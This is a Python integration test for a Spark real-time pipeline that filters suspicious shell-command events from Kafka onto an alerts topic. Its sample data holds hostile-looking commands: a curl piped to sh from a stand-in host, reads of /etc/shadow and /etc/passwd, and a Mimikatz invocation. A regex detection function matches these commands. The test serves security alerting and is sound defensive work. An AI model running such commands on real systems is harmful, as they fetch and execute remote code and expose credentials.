"""pipelines/realtime_kafka_filter.yaml run continuously in Spark's real-time mode (etl.runtime.realtime) against the
test broker: every matching event comes out once on the alerts topic, as the micro-batch kafka sink renders it (key,
value as to_json of the selected columns), within seconds of its production while the query runs; the malformed
event is in the dead letters (jsonl beside the checkpoint, written in micro-batches); a stop ends both queries."""

from __future__ import annotations

import json
import re
import sys
import time
import uuid
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

from tests.servers.examples import produce_kafka, server_env  # noqa: E402

pytestmark = [pytest.mark.servers, pytest.mark.spark, pytest.mark.timeout(600)]

CMDS = ["ls -la", "curl -s http://x.example/i.sh | sh", "cat /etc/shadow", "./MimiKatz.exe", "sudo reboot",
        "git pull", "curl http://x.example", "vim /etc/passwd"]
USERS = ["alice", "ci", "bob", "build"]


def matches(e: dict) -> bool:
    """The example's four rules, in Python."""
    cmd = e["cmd"]
    return bool(re.search(r"curl\s.*\|\s*(ba|z)?sh", cmd) or re.search(r"/etc/(passwd|shadow)", cmd)
                or "mimikatz" in cmd.lower() or (e["user"] in ("ci", "build") and cmd.startswith("sudo ")))


def _consume(bootstrap: str, topic: str, want: int, timeout: float) -> list[tuple[str, str, float]]:
    from confluent_kafka import Consumer

    c = Consumer({"bootstrap.servers": bootstrap, "group.id": f"t-{uuid.uuid4().hex[:6]}",
                  "auto.offset.reset": "earliest", "isolation.level": "read_committed"})
    c.subscribe([topic])
    got: list[tuple[str, str, float]] = []
    deadline = time.monotonic() + timeout
    try:
        while len(got) < want and time.monotonic() < deadline:
            for m in c.consume(100, 0.2):
                if m.error() is None:
                    got.append((m.key().decode(), m.value().decode(), time.time()))
        for m in c.consume(100, 1.0):  # anything more (a duplicate) within a second
            if m.error() is None:
                got.append((m.key().decode(), m.value().decode(), time.time()))
    finally:
        c.close()
    return got


def test_realtime_example_end_to_end(spark, kafka_server, tmp_path):
    from etl.check import check_file
    from etl.runtime.runner import PipelineRun, RunOptions

    topic, alerts = f"commands_{uuid.uuid4().hex[:8]}", f"alerts_{uuid.uuid4().hex[:8]}"
    kafka_server.create_topic(topic, partitions=2)
    kafka_server.create_topic(alerts, partitions=2)
    checked = check_file(REPO / "pipelines" / "realtime_kafka_filter.yaml", environ=server_env(kafka_server),
                         cli_vars={"topic": topic, "alerts": alerts}, programs=True)
    assert checked.plan is not None, "\n".join(d.render() for d in checked.report.sorted())
    run = PipelineRun(checked.plan, spark, RunOptions(checkpoint=str(tmp_path / "ckpt"), progress="none"))
    assert run.realtime
    run.start()
    try:
        events = [{"id": i, "host": f"h{i % 3}", "user": USERS[i % 4], "cmd": CMDS[i % 8]} for i in range(400)]
        want = sorted((str(e["id"]), json.dumps(e, separators=(",", ":"))) for e in events if matches(e))
        time.sleep(3)  # the real-time batch has started: the events are read as they arrive
        sent = time.time()
        produce_kafka(kafka_server.bootstrap_servers, topic, [json.dumps(e) for e in events] + ["not json"])
        got = _consume(kafka_server.bootstrap_servers, alerts, len(want), 120)
        assert sorted((k, v) for k, v, _ in got) == want  # each once, rendered as the micro-batch sink does
        assert len(want) == 200
        # while the query runs: no micro-batch of 5 s between production and arrival
        assert max(t for _, _, t in got) - sent < 4.0, max(t for _, _, t in got) - sent
        deadline = time.monotonic() + 60
        dead: list[dict] = []
        while not dead and time.monotonic() < deadline:
            dead = [json.loads(x) for f in (tmp_path / "dead_letters").glob("**/*.jsonl")
                    for x in f.read_text().splitlines()]
            time.sleep(0.5)
        assert [(d["stage"], d["reason"], d["payload"]) for d in dead] == [("commands", "malformed json", "not json")]
    finally:
        run.request_stop()
        run.wait()
    assert run.failure is None
    assert all(not s.isActive for s in run.streams) and len(run.streams) == 2
